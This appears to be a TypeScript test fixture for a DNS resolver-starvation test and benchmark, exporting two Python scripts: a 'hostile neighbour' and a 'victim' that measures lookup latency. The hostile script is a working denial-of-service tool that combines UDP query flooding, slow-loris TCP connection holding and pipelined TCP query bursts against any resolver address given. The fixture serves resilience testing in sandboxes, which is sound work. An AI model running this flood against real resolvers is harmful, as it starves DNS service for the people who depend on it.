/**
 * The hostile neighbour and the victim of the resolver-starvation test and bench: python3
 * programs run inside sandboxes.
 */
/** python3 argv[1] resolver, argv[2] seconds: floods it over UDP, holds TCP connections with a byte trickle (slow-loris) and pipelines queries over others. */
export const HOSTILE_DNS_SCRIPT = String.raw`
import random, socket, struct, sys, threading, time
R, D = sys.argv[1], float(sys.argv[2])
def query(name):
    q = struct.pack("!HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", 1, 1)
end = time.time() + D
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packets = [query("x%d.evil.test" % i) for i in range(256)]
    while time.time() < end:
        for p in packets:
            try: s.sendto(p, (R, 53))
            except OSError: pass
def loris():
    conns = []
    while time.time() < end:
        while len(conns) < 150 and time.time() < end:
            try:
                c = socket.create_connection((R, 53), timeout=0.5); c.setblocking(False); conns.append(c)
            except OSError:
                break
        for c in list(conns):
            try: c.send(b"\0")
            except OSError: conns.remove(c); c.close()
        time.sleep(0.5)
def pipelined():
    burst = b"".join(struct.pack("!H", len(q)) + q for q in [query("p%d.evil.test" % i) for i in range(64)])
    while time.time() < end:
        try:
            c = socket.create_connection((R, 53), timeout=0.5)
            while time.time() < end:
                c.sendall(burst); time.sleep(0.01)
        except OSError:
            time.sleep(0.05)
threads = [threading.Thread(target=f, daemon=True) for f in (udp, udp, loris, pipelined, pipelined)]
for th in threads: th.start()
print("flooding", flush=True)
time.sleep(D)
`;

/** python3 argv[1] resolver, argv[2] name, argv[3] count: that many getaddrinfo() lookups one after another, then one query over TCP; prints JSON {lat, fails, tcp, tcpMs}. */
export const VICTIM_DNS_SCRIPT = String.raw`
import json, socket, struct, sys, time
R, name, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
lat, fails = [], 0
for i in range(count):
    t = time.monotonic()
    try: socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
    except OSError: fails += 1
    lat.append((time.monotonic() - t) * 1000)
q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
t = time.monotonic()
tcp = "ok"
try:
    c = socket.create_connection((R, 53), timeout=5); c.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", c.recv(2))[0]
    if len(c.recv(n)) < 12: tcp = "short"
except OSError as e: tcp = type(e).__name__
print(json.dumps({"lat": lat, "fails": fails, "tcp": tcp, "tcpMs": (time.monotonic() - t) * 1000}))
`;
